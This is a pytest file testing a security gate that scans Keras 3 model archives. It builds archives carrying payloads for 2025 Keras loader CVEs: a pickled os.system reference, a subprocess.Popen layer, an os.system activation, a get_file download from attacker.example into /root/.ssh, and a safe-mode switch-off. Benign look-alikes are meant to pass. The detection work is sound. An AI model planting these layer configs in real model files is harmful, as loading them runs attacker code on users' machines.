"""Keras v3 archives carrying the 2025 Keras loader CVEs block on gate's own analysis (with the
second-opinion scanners' failures only warnings), and their benign look-alikes promote.

Archives are written the way Keras 3 writes ``model.keras``: a zip of ``metadata.json``,
``config.json`` and ``model.weights.h5`` (an h5py file), built from the real Sequential config
under tests/formats/data/keras.
"""

from __future__ import annotations

import copy
import json
import zipfile
from pathlib import Path
from typing import Any

import pytest

from tests.test_artifact_threats import decide

DATA = Path(__file__).parent / "formats" / "data" / "keras"


def _base() -> dict[str, Any]:
    with zipfile.ZipFile(DATA / "sequential.keras") as archive:
        config: dict[str, Any] = json.loads(archive.read("config.json"))
    return config


def _archive(tmp_path: Path, name: str, layer: dict[str, Any]) -> Path:
    config = copy.deepcopy(_base())
    config["config"]["layers"].insert(1, layer)
    path = tmp_path / f"{name}.keras"
    with zipfile.ZipFile(DATA / "sequential.keras") as source, zipfile.ZipFile(path, "w") as archive:
        archive.writestr("metadata.json", source.read("metadata.json"))
        archive.writestr("config.json", json.dumps(config))
        archive.writestr("model.weights.h5", source.read("model.weights.h5"))
    return path


def _fn(module: str, name: str) -> dict[str, Any]:
    """How Keras 3 serialises a function reference."""
    return {"module": module, "class_name": "function", "config": name, "registered_name": "function"}


CVES = {
    "CVE-2025-49655-torch-module-wrapper": (
        {
            "module": "keras.layers",
            "class_name": "TorchModuleWrapper",
            "config": {"name": "torch_module_wrapper", "module": "gASVIAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOU"},
            "registered_name": "TorchModuleWrapper",
        },
        "keras.torch_module_wrapper",
    ),
    "CVE-2025-1550-subprocess-module": (
        {
            "module": "subprocess",
            "class_name": "Popen",
            "config": {"args": ["touch", "/tmp/pwned"]},
            "registered_name": "Popen",
        },
        "keras.foreign_module",
    ),
    "CVE-2025-1550-fn-module": (
        {
            "module": "keras.layers",
            "class_name": "Activation",
            "config": {"name": "a", "activation": {"fn_module": "os", "function": "system"}},
        },
        "keras.foreign_module",
    ),
    "CVE-2025-8747-get-file-url": (
        {
            "module": "keras.layers",
            "class_name": "Dense",
            "config": {
                "name": "d",
                "units": 4,
                "activation": _fn("keras.utils", "get_file"),
                "bias_initializer": {"origin": "https://attacker.example/x.h5", "cache_dir": "/root/.ssh"},
            },
        },
        "keras.get_file_download",
    ),
    "CVE-2025-9906-safe-mode-off": (
        {
            "module": "keras.layers",
            "class_name": "Dense",
            "config": {
                "name": "d",
                "units": 4,
                "activation": _fn("keras.config", "enable_unsafe_deserialization"),
            },
        },
        "keras.safe_mode_bypass",
    ),
}


@pytest.mark.parametrize("case", sorted(CVES))
def test_keras_cves_block(case: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    layer, check = CVES[case]
    decision = decide(capsys, _archive(tmp_path, case, layer))
    assert decision["verdict"] == "block"
    assert decision["reasons"] == ["unsafe_layer"], decision["results"]
    assert check in json.dumps(decide_input(tmp_path, capsys, _archive(tmp_path, case, layer)))


def decide_input(tmp_path: Path, capsys: pytest.CaptureFixture[str], path: Path) -> dict[str, Any]:
    """The collected input document (the finding checks are there)."""
    from tests.helpers import run_cli

    out = tmp_path / "input.json"
    run = run_cli(capsys, "collect", "artifact", str(path), "--profile", "standalone", "-o", str(out))
    assert run.code == 0, run.err
    document: dict[str, Any] = json.loads(out.read_text())
    return document


BENIGN = {
    "tf-keras-module": {
        "module": "tensorflow.keras.layers",
        "class_name": "Dense",
        "config": {"name": "d2", "units": 4},
        "registered_name": None,
    },
    "get-file-without-url": {
        "module": "keras.layers",
        "class_name": "Dense",
        "config": {"name": "d2", "units": 4, "trainable": True},
        "notes": "weights fetched once with keras.utils.get_file",
    },
    "mention-of-the-switch": {
        "module": "keras.layers",
        "class_name": "Dense",
        "config": {"name": "enable_unsafe_deserialization_is_never_called", "units": 4},
    },
}


@pytest.mark.parametrize("case", sorted(BENIGN))
def test_keras_lookalikes_promote(case: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    decision = decide(capsys, _archive(tmp_path, case, BENIGN[case]))
    assert decision["verdict"] == "promote", decision["results"]
